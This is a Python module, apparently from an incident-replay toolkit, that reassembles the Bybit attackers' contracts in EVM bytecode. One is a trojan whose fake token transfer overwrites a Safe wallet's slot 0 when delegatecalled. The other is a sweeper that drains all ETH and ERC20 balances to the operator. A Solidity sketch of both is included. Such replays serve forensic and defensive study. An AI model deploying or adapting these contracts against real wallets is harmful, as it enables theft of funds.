"""The thieves' contracts, as deployed before the Bybit theft (2025-02-19) and used by
the replays of Bybit and WazirX.

* The trojan (Bybit's 0x9622…7242): a `transfer(address,uint256)` that looks like a
  token transfer to whoever reads the selector, but writes its first argument to storage
  slot 0. Called it does nothing useful; *delegatecalled* by a Safe it overwrites the
  Safe's slot 0, the singleton: the wallet's logic is replaced.
* The sweeper (Bybit's 0xbDd0…9516): the implementation the Safe is made to run.
  `sweepETH(to)` sends the whole balance to `to`, `sweepERC20(token, to)` the whole
  `token.balanceOf(this)`; only the attacker's own account (baked into the code, as an
  `immutable`) may call them.

The same behaviour in Solidity, for the reader (documentation, not the bytes' source)::

    contract Trojan {
        address internal slot0;
        function transfer(address to, uint256) external { slot0 = to; }
    }

    contract Sweeper {
        address immutable operator;
        function sweepETH(address to) external {
            require(msg.sender == operator);
            (bool ok, ) = to.call{value: address(this).balance}(""); require(ok);
        }
        function sweepERC20(address token, address to) external {
            require(msg.sender == operator);
            require(IERC20(token).transfer(to, IERC20(token).balanceOf(address(this))));
        }
    }
"""

from __future__ import annotations

from kinko.chains.ethereum.calldata import selector
from kinko.replays.contracts.asm import (
    FAIL,
    REQUIRE,
    Item,
    address,
    arg_address,
    assemble,
    deploy_code,
    dispatch,
)

TROJAN: list[Item] = [
    *dispatch(("transfer(address,uint256)", "transfer")),
    *FAIL,
    ("DEF", "transfer"), "JUMPDEST",
    *arg_address(0), 0, "SSTORE", "STOP",
]  # fmt: skip


def sweeper(operator: str) -> list[Item]:
    """The sweeping implementation, callable only by `operator`."""
    word = 0xE0  # a selector shifted to the top of a memory word
    return [
        *dispatch(("sweepETH(address)", "eth"), ("sweepERC20(address,address)", "erc20")),
        *FAIL,
        ("DEF", "eth"), "JUMPDEST",
        "CALLER", address(operator), "EQ", *REQUIRE,
        0, 0, 0, 0, "SELFBALANCE", *arg_address(0), "GAS", "CALL", *REQUIRE,
        "STOP",
        ("DEF", "erc20"), "JUMPDEST",
        "CALLER", address(operator), "EQ", *REQUIRE,
        # balance = token.balanceOf(this)
        ("PUSH", selector("balanceOf(address)")), word, "SHL", 0, "MSTORE",
        "ADDRESS", 4, "MSTORE",
        0x20, 0, 0x24, 0, *arg_address(0), "GAS", "STATICCALL", *REQUIRE,
        0, "MLOAD",                                           # [balance]
        # token.transfer(to, balance)
        ("PUSH", selector("transfer(address,uint256)")), word, "SHL", 0, "MSTORE",
        *arg_address(1), 4, "MSTORE",
        0x24, "MSTORE",
        0x20, 0, 0x44, 0, 0, *arg_address(0), "GAS", "CALL", *REQUIRE,
        0, "MLOAD", *REQUIRE,                                 # it returned true
        "STOP",
    ]  # fmt: skip


def trojan_code() -> bytes:
    return deploy_code(assemble(TROJAN))


def sweeper_code(operator: str) -> bytes:
    return deploy_code(assemble(sweeper(operator)))
